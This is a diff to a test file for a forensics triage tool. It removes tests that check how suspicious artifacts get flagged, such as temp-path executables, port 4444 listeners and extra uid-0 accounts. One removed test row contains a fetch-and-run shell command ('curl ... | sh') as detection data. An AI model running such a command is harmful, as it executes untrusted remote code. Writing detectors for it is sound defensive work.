@@ -4,7 +4,6 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { expandTemplate, loadTemplates, parseTemplate, TemplateError } from "../../../dfir/collection/templates.js";
-import { notableReasons, sectionOf } from "../../../dfir/collection/triage.js";
 import { ALL_KNOWN_ARTIFACTS } from "../../../mcp/prompts/known-artifacts.js";
 
 const SCENARIOS = ["malware", "lateral-movement", "ransomware", "persistence", "credential-theft", "web-server-compromise", "insider-exfiltration", "linux-intrusion", "macos-intrusion", "quick-triage"];
@@ -81,24 +80,5 @@ describe("bad templates", () => {
     expect(all.get("my-case")!.source).toBe(join(dir, "mine.yml"));
     writeFileSync(join(dir, "zz-bad.yaml"), "name: Bad Name\n");
     expect(() => loadTemplates({ userDir: dir })).toThrow(/zz-bad.yaml:1: name/);
-  });
-});
-
-describe("triage rules", () => {
-  it("maps artifacts to sections and explains notable rows", () => {
-    expect(sectionOf("Windows.System.Pslist")).toBe("processes");
-    expect(sectionOf("Linux.Sys.Crontab")).toBe("scheduled");
-    expect(notableReasons("processes", { Name: "upd.exe", Exe: "C:\\Users\\bob\\AppData\\Local\\Temp\\upd.exe" })).toEqual(["runs from a user-writable/temp path (C:\\Users\\bob\\AppData\\Local\\Temp\\upd.exe)"]);
-    expect(notableReasons("processes", { Name: "svchost.exe", Exe: "C:\\Users\\Public\\svchost.exe" })).toHaveLength(2);
-    expect(notableReasons("processes", { Name: "svchost.exe", Exe: "C:\\Windows\\System32\\svchost.exe", CommandLine: "svchost.exe -k netsvcs" })).toEqual([]);
-    expect(notableReasons("network", { Status: "LISTEN", "Laddr.Port": 4444 })).toEqual(["listening on uncommon port 4444"]);
-    expect(notableReasons("network", { Status: "LISTEN", "Laddr.Port": 443 })).toEqual([]);
-    expect(notableReasons("network", { Status: "ESTABLISHED", "Raddr.IP": "10.0.0.1" })).toEqual([]);
-    expect(notableReasons("shell_history", { Line: "curl -s http://x/k.sh | sh" })).toHaveLength(1);
-    expect(notableReasons("users", { User: "sysupd", Uid: "0" })).toEqual(["uid 0 account other than root"]);
-    const now = Date.parse("2026-11-25T12:00:00Z");
-    expect(notableReasons("services", { Name: "UpdSvc", PathName: "C:\\Program Files\\Upd\\upd.exe", Created: "2026-11-20T08:15:30Z" }, now)).toEqual(["created 2026-11-20 (5 days ago)"]);
-    expect(notableReasons("services", { Name: "Spooler", PathName: "C:\\Windows\\System32\\spoolsv.exe", Created: "2026-01-10T00:00:00Z" }, now)).toEqual([]);
-    expect(notableReasons("scheduled", { Command: "backup.sh", Mtime: "2026-11-24T00:00:00Z" }, now)).toEqual(["changed 2026-11-24 (2 days ago)"]);
   });
 });
